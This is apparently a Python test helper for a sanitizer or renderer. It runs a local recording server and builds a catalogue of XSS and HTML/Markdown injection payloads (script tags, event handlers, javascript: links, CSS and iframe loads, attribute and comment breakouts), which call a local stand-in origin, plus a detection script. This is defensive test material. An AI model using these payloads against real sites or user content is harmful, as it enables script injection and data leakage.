"""What a hostile article, question or model would write, and a page that is elsewhere.

Every payload names the elsewhere, or calls ``hacked()``, or both; what becomes of it is seen by
who is asked there and by what is called.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


class _Handler(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        self.server.asked.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_PUT = do_HEAD = do_OPTIONS = do_GET  # noqa: N815

    def log_message(self, format: str, *args: object) -> None:
        pass


class Elsewhere(ThreadingHTTPServer):
    """Another origin than the page's, on a port of its own; ``asked`` is all that came."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.asked: list[str] = []

    @property
    def place(self) -> str:
        """Without the scheme, as ``//host:port``."""
        return f"//127.0.0.1:{self.server_port}"


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def payloads(place: str) -> dict[str, str]:
    """A name for each → the payload. ``place`` is that of the elsewhere."""
    run = f"hacked(),fetch('{place}/fetched')"
    broken = f'<img src=x onerror="{run}">'
    return {
        # scripts and event handlers
        "script": f"<script>{run}</script>",
        "script from": f"<script src={place}/script></script>",
        "image error": broken,
        "svg load": f'<svg onload="{run}"></svg>',
        "details toggle": f'<details open ontoggle="{run}">x</details>',
        "focus": f'<input autofocus onfocus="{run}">',
        "source error": f'<video><source src=x onerror="{run}"></video>',
        "pointer": f'<b onpointerover="{run}">x</b>',
        # links, in HTML and in Markdown
        "javascript link": f'<a href="javascript:{run}">x</a>',
        "link": f"<a href={place}/link>x</a>",
        "Markdown javascript": "[x](javascript:hacked())",
        "Markdown link": f"[x](http:{place}/markdown-link)",
        "Markdown autolink": f"<http:{place}/autolink>",
        # forms
        "form": f"<form action={place}/form method=post><input name=q><button>go</button></form>",
        "form action": f"<form><button formaction={place}/formaction>go</button></form>",
        # styles
        "style import": f"<style>@import '{place}/import';</style>",
        "style rule": f"<style>body{{background:url({place}/rule)}}</style>",
        "style": f'<i style="background:url({place}/style)">x</i>',
        "stylesheet": f"<link rel=stylesheet href={place}/stylesheet>",
        "prefetch": f"<link rel=prefetch href={place}/prefetch>",
        # images
        "image": f"<img src={place}/image>",
        "image set": f'<img srcset="{place}/srcset 1x">',
        "Markdown image": f"![x](http:{place}/markdown-image)",
        "poster": f"<video poster={place}/poster></video>",
        "audio": f"<audio src={place}/audio autoplay></audio>",
        "svg image": f"<svg><image href={place}/svg-image width=9 height=9 /></svg>",
        # pages within the page, and the page itself
        "frame": f"<iframe src={place}/frame></iframe>",
        "frame text": f'<iframe srcdoc="<img src={place}/srcdoc>"></iframe>',
        "object": f"<object data={place}/object></object>",
        "embed": f"<embed src={place}/embed>",
        "base": f"<base href={place}/base>",
        "refresh": f'<meta http-equiv="refresh" content="0;url=http:{place}/refresh">',
        # ways out of where the text stands
        "out of an attribute": f'">{broken}',
        "out of a quoted attribute": f"'>{broken}",
        "into the tag": f'" onpointerover="{run}" x="',
        "out of a comment": f"-->{broken}",
        "out of a box": f"</textarea></title></style></script>{broken}",
        "out of code": f"``` `{broken}",
        "entities": broken.replace("<", "&lt;").replace(">", "&gt;"),
        "formula": "$$\\href{javascript:hacked()}{x}$$",
    }


LIVE = """place => {
    const kinds = new Set();
    const names = /^(on.*|src|href|srcset|action|formaction|style|data|poster|content|srcdoc|xlink:href)$/;
    for (const element of document.querySelectorAll("*")) {
        for (const {name, value} of element.attributes)
            if (names.test(name) && !value.startsWith("#")
                && (value.includes(place) || value.includes("hacked")))
                kinds.add(`${element.localName} ${name}`);
        const inside = /^(script|style)$/.test(element.localName) ? element.textContent : "";
        if (inside.includes(place) || inside.includes("hacked(),")) kinds.add(element.localName);
    }
    return [...kinds].sort();
}"""
"""Run in the page: the kinds of elements that a payload has become."""
